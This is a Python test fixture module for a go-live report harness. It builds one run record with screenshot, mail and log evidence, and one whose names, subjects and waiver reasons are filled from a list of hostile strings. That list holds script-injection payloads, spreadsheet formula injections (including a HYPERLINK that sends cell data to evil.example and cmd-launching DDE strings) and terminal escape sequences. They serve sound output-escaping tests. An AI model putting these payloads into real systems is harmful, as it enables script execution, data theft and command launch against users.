"""Run records for the report tests: one with step evidence, one full of hostile text."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from harness.coverage import compute_coverage
from harness.evidence import keep_file, keep_text
from harness.gate import decide
from harness.record import (
    AccountCheck,
    Attachment,
    Outcome,
    Provenance,
    RunRecord,
    StepResult,
)
from harness.signoff.model import SignoffRules, Waiver
from tests.harness.gate_records import ITEMS, Rules, good_record, scenario

TODAY = dt.date(2026, 11, 3)
# a 1×1 PNG: what a screenshot file holds, small
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8ffff3f0005fe02fea7d6a4c0"
    "000000000049454e44ae426082")
# what a target or a person may put in a name, subject or reason
XSS = [
    "<script>alert('acct')</script>",
    "<img src=x onerror=alert('ticket')>",
    '"><svg onload=alert("mail")>',
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"waiver\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "[bold red]markup[/] :smile: \x1b[2J\x1b]0;owned\x07",
]


def gated(record: RunRecord) -> RunRecord:
    compute_coverage(record, ITEMS, {})
    decide(record, Rules(), TODAY)
    return record


def evidence_record(run_dir: Path) -> RunRecord:
    """A NO-GO run whose failing portal step kept a screenshot, a mail and event-log lines,
    and whose account checks are tied to the step that made them."""
    record = good_record()
    shot = run_dir / "raw-shot.png"
    run_dir.mkdir(parents=True, exist_ok=True)
    shot.write_bytes(PNG)
    screenshot = keep_file(run_dir, shot, "screenshot", "the page when this step failed")
    mail = keep_text(run_dir, "mail", "2 email(s) the SMTP sink captured",
                     "b***@example.com: Invoice INV-1\nj***@example.com: Invoice INV-2")
    log = keep_text(run_dir, "event_log", "ERROR entries since 2026-11-01 02:00:00",
                    "\n".join(f"2026-11-01 02:00:{i:02d} billing: boom {i}" for i in range(200)))
    failing = scenario("open a ticket", ["CF-TIX-01"], Outcome.FAILED, steps=[
        StepResult("Given", "staff of role \"support\" are logged in", Outcome.PASSED, 0.5,
                   line=12),
        StepResult("Then", "the ticket shows its subject", Outcome.FAILED, 0.7,
                   error="AssertionError: the page shows no subject", line=13,
                   attachments=[screenshot, mail, log]),
    ], error="AssertionError: the page shows no subject")
    record.scenarios[-1] = failing
    record.accounts.append(AccountCheck("Carol", "balance", "5.00", "7.00", False,
                                        failing.nodeid, step=1))
    record.provenance = Provenance(
        golive_version="0.1.0", user="quinn", host="ci-7", python="CPython 3.11",
        command="golive run -n 2", profile_sha256="a" * 64, checklists_sha256="b" * 64,
        features_sha256="c" * 64, rules_sha256="d" * 64, ci="https://ci.example/job/7")
    record.stages[0].evidence["sha256"] = "e" * 64
    record.signoff.rules = SignoffRules()
    return gated(record)


def hostile_record() -> RunRecord:
    """Every kind of text a person or target writes, each a hostile string."""
    record = good_record()
    acct, ticket, mail, waiver = XSS[0], XSS[1], XSS[2], XSS[3]
    record.accounts.append(AccountCheck(acct, "balance", XSS[4], XSS[5], False,
                                        record.scenarios[0].nodeid, step=1))
    record.scenarios[-1] = scenario(f"ticket {ticket}", ["CF-TIX-01"], Outcome.FAILED, steps=[
        StepResult("Given", f"a ticket with subject {ticket}", Outcome.PASSED),
        StepResult("Then", "the ticket shows its subject", Outcome.FAILED,
                   error=f"AssertionError: subject {ticket} {XSS[7]}",
                   attachments=[Attachment("mail", f"mail {mail}", text=f"a***: {mail}")]),
    ], error=f"AssertionError: subject {ticket}")
    assert record.outbound is not None
    record.outbound.mail = [{"recipients": ["a***@example.com"], "subject": mail, "size": 10}]
    record.notes.append(f"note {XSS[6]}")
    record.signoff.rules = SignoffRules()
    gated(record)
    record.signoff.waivers = [Waiver("CF-TIX-01", waiver, "https://bugs.example/1", "mia",
                                     "2026-11-03T10:00:00+00:00", "2026-11-30")]
    return record
